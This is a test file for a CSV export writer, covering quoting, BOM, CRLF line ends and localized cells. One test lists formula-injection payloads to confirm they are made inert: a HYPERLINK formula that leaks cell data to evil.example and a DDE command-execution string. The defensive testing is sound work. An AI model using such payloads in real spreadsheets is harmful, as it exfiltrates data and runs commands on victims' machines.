// The CSV writer of the exports: BOM, `;`, CRLF, RFC 4180 quoting, values rendered for Excel.
import { describe, expect, it } from 'vitest';
import { csvField, csvValue, toCsv } from '../../src/server/coordinator/csv';
import { cellText, dayCell, timeCell } from '../../src/server/coordinator/export-cells';

describe('CSV writer', () => {
  it('quotes only fields holding ; , a tab, " or a line break, doubling inner quotes', () => {
    expect(csvField('plain text')).toBe('plain text');
    // A comma or tab splits a field for a spreadsheet whose separator is one (issue 11, finding 12).
    expect(csvField('plain text, with comma')).toBe('"plain text, with comma"');
    expect(csvField('1030,=2+2')).toBe('"1030,=2+2"');
    expect(csvField('a\tb')).toBe('"a\tb"');
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rlf')).toBe('"cr\rlf"');
    expect(csvField('élève à Liège')).toBe('élève à Liège');
  });

  it('renders values: empty for null, text arrays joined, objects as JSON', () => {
    expect(csvValue(null)).toBe('');
    expect(csvValue(undefined)).toBe('');
    expect(csvValue(false)).toBe('false');
    expect(csvValue(8)).toBe('8');
    expect(csvValue(['itsme', 'email'])).toBe('itsme, email');
    expect(csvValue({ ramGb: 8 })).toBe('{"ramGb":8}');
  });

  it('makes text a spreadsheet would run as a formula inert, numbers untouched', () => {
    for (const evil of [
      '=HYPERLINK("http://evil.example/?"&A1;"click")',
      "=cmd|' /C calc'!A0",
      '+32 470 99 88 77',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
    ]) {
      expect(csvValue(evil), evil).toBe(`'${evil}`);
    }
    expect(csvField('=1;2')).toBe(`"'=1;2"`);
    expect(csvValue(['=1+1', 'x'])).toBe("'=1+1, x");
    expect(csvValue(-5)).toBe('-5');
    // Numbers a spreadsheet reads as numbers need no guard (and would show it).
    for (const n of ['-5', '+5', '-2,5', '-2.25']) expect(csvValue(n), n).toBe(n);
    expect(csvValue({ a: '=1' })).toBe('{"a":"=1"}');
    expect(csvValue('2026-11-23')).toBe('2026-11-23');
    expect(csvValue('a=b')).toBe('a=b');
  });

  it('writes a BOM, a header row and CRLF line ends', () => {
    const csv = toCsv(
      ['id', 'note'],
      [
        ['1', 'a;b'],
        ['2', null],
      ],
    );
    expect(csv).toBe('\uFEFFid;note\r\n1;"a;b"\r\n2;\r\n');
    expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('writes readable cells: Brussels days and times, decimals with the language’s mark, text guarded', () => {
    expect(cellText(dayCell('2026-11-22T23:30:00Z'), 'nl')).toBe('2026-11-23');
    expect(cellText(timeCell('2026-07-01T08:05:00Z'), 'fr')).toBe('10:05');
    expect(cellText(4.5, 'nl')).toBe('4,5');
    expect(cellText(4.5, 'en')).toBe('4.5');
    expect(cellText(-3, 'fr')).toBe('-3');
    expect(cellText('=SUM(A1)', 'nl')).toBe("'=SUM(A1)");
    expect(cellText(null, 'nl')).toBe('');
    expect(dayCell('not a date')).toBeNull();
  });
});
